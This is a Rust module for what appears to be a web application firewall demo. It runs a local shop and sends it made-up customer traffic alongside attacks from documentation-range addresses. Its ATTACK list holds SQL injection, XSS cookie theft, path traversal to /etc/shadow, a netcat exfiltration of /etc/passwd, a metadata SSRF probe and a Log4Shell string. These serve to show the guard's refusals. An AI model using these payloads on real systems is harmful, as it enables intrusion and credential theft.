//! A web shop with a guard around it, its customers, and somebody who attacks it.
//!
//! The shop is real: the program `guarded-shop`, where it lies beside this one, on a free port of
//! loopback. Its customers and the attacker are made up; their addresses are of the networks that RFC
//! 5737 sets aside for examples, and the shop believes them, as it believes any proxy on its machine.

use crate::discovery::trust_of;
use anyhow::{Context, Result};
use bytes::Bytes;
use http::header::USER_AGENT;
use http::{HeaderMap, HeaderName, HeaderValue, Method};
use ringwall_lifecycle::ReadyFile;
use ringwall_server_api::{GuardProjectKeys, GuardProjectRequest, GuardRotateRequest};
use ringwall_server_client::{Client, HttpClient};
use std::process::Stdio;
use std::time::Duration;
use tokio::io::{AsyncBufReadExt, BufReader};
use tokio::process::{Child, Command};

const PROJECT: &str = "demo-shop";
const PROGRAM: &str = "guarded-shop";
const TIMEOUT: Duration = Duration::from_secs(10);
const START_PATIENCE: Duration = Duration::from_secs(20);

/// The attack begins anew after so many ticks.
const STORY_TICKS: u64 = 60;
/// More than the shop lets one address ask in its window.
const BURST: usize = 90;

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
const SCANNER: &str = "sqlmap/1.8#stable (https://sqlmap.org)";

/// What customers look at.
const ORDINARY: [&str; 6] =
    ["/", "/articles", "/articles/3", "/search?q=storm+lantern", "/articles/6", "/search?q=rope"];

/// What the attacker asks for, one after the other.
const ATTACK: [&str; 12] = [
    "/search?q=%27%20OR%20%271%27%3D%271%27%20--%20",
    "/search?q=1%20UNION%20SELECT%20user,password%20FROM%20accounts",
    "/articles/3?sort=price;DROP%20TABLE%20articles",
    "/search?q=%3Cscript%3Edocument.location%3D%27//203.0.113.66/%27%2Bdocument.cookie%3C/script%3E",
    "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "/search?q=../../../../etc/passwd",
    "/search?q=%252e%252e%252f%252e%252e%252fetc%252fshadow",
    "/search?q=;cat%20/etc/passwd%7Cnc%20203.0.113.66%204444",
    "/search?q=http://169.254.169.254/latest/meta-data/",
    "/search?q=$%7Bjndi:ldap://203.0.113.66/a%7D",
    "/search?q=%7B%7B7*7%7D%7D%7B%7Bconfig.items()%7D%7D",
    "/search?q=%27;WAITFOR%20DELAY%20%270:0:5%27--",
];

/// The shop that runs, and the way to it. Ends with the value.
pub(super) struct Shop {
    http: HttpClient,
    _process: Child,
}

impl Shop {
    /// Starts the shop as a project of this server; none where there is no such program here.
    pub(super) async fn open(ready: &ReadyFile) -> Result<Option<Self>> {
        let program = std::env::current_exe()
            .context("cannot tell where this program lies")?
            .with_file_name(PROGRAM);
        if !program.is_file() {
            tracing::info!(program = %program.display(), "the demo has no shop: `./x up --demo` builds it");
            return Ok(None);
        }
        let keys = keys(ready).await?;
        let root = format!("{}/dialects/guard", ready.main);
        let root = ready.dialects.get("guard").unwrap_or(&root);
        let mut command = Command::new(&program);
        command
            .env("SHOP_LISTEN", "127.0.0.1:0")
            .env("SHOP_GUARD_ENDPOINT", root)
            .env("SHOP_GUARD_PROJECT", PROJECT)
            .env("SHOP_GUARD_KEY", keys.key.expose())
            .env("SHOP_FLUSH_INTERVAL", "1")
            .env("RUST_LOG", "error")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .kill_on_drop(true);
        if let Some(secret) = &keys.signing_secret {
            command.env("SHOP_SIGNING_SECRET", secret.expose());
        }
        if let Some(key) = &keys.encryption_key {
            command.env("SHOP_ENCRYPTION_KEY", key.expose());
        }
        if let Some(ca) = &ready.ca_file {
            command.env("SHOP_CA_FILE", ca);
        }
        let mut process = command.spawn().with_context(|| format!("cannot start {PROGRAM}"))?;
        let output = process.stdout.take().context("the shop has no output")?;
        let mut lines = BufReader::new(output).lines();
        let address = tokio::time::timeout(START_PATIENCE, lines.next_line())
            .await
            .context("the shop does not start")??
            .context("the shop ended at once")?;
        let http = HttpClient::new(&address, TIMEOUT)?;
        tracing::info!(address, "the demo's shop is open");
        Ok(Some(Self { http, _process: process }))
    }

    /// What happens in one tick.
    pub(super) async fn visit(&self, tick: u64) -> Result<()> {
        for customer in 0..3u64 {
            let path = pick(&ORDINARY, tick + customer);
            let address = format!("198.51.100.{}", 10 + (tick * 7 + customer) % 40);
            self.get(&address, BROWSER, path).await?;
        }
        let cart = Bytes::from_static(br#"[{"id":4,"count":1},{"id":5,"count":2}]"#);
        self.ask(Method::POST, "198.51.100.77", BROWSER, "/cart", cart).await?;
        match tick % STORY_TICKS {
            5 => {
                for path in ORDINARY {
                    self.get("203.0.113.7", SCANNER, path).await?;
                }
            }
            // Ten attacks ban the address: the last requests find the door shut.
            step @ 8..20 => self.get("203.0.113.66", BROWSER, pick(&ATTACK, step - 8)).await?,
            24 => {
                for number in 0..BURST {
                    self.get("192.0.2.44", BROWSER, pick(&ORDINARY, number as u64)).await?;
                }
            }
            step @ 30..33 => {
                for _ in 0..3 {
                    let body = format!(r#"{{"user":"admin","password":"guess-{step}"}}"#);
                    self.ask(Method::POST, "192.0.2.91", BROWSER, "/login", body.into()).await?;
                }
            }
            _ => {}
        }
        Ok(())
    }

    async fn get(&self, address: &str, agent: &'static str, path: &str) -> Result<()> {
        self.ask(Method::GET, address, agent, path, Bytes::new()).await
    }

    /// Whatever the shop answers is right: refusals are what the demo is about.
    async fn ask(
        &self,
        method: Method,
        address: &str,
        agent: &'static str,
        path: &str,
        body: Bytes,
    ) -> Result<()> {
        let mut headers = HeaderMap::new();
        headers.insert(USER_AGENT, HeaderValue::from_static(agent));
        let forwarded = HeaderName::from_static("x-forwarded-for");
        headers.insert(forwarded, HeaderValue::try_from(address)?);
        self.http.send(method, path, headers, body).await?;
        Ok(())
    }
}

/// The keys of an earlier demo are not kept, so the project gets others; its history stays.
async fn keys(ready: &ReadyFile) -> Result<GuardProjectKeys> {
    let client = Client::trusting(&ready.main, &ready.admin_token, &trust_of(ready)?)?;
    let others = GuardRotateRequest { grace_seconds: Some(0) };
    match client.rotate_guard_project(PROJECT, &others).await {
        Err(error) if error.is_status(404) => {}
        rotated => return Ok(rotated?),
    }
    let request = GuardProjectRequest {
        name: PROJECT.to_owned(),
        encryption: true,
        signing: true,
        require_signature: false,
    };
    Ok(client.create_guard_project(&request).await?)
}

fn pick<'a>(from: &[&'a str], number: u64) -> &'a str {
    let place = usize::try_from(number).unwrap_or(0) % from.len().max(1);
    from.get(place).copied().unwrap_or("/")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_request_of_the_script_can_be_sent() {
        for path in ORDINARY.iter().chain(&ATTACK) {
            let uri: http::Uri = path.parse().unwrap();
            assert!(uri.path().starts_with('/'), "{path}");
        }
        assert_eq!(pick(&ORDINARY, 6), "/");
    }
}
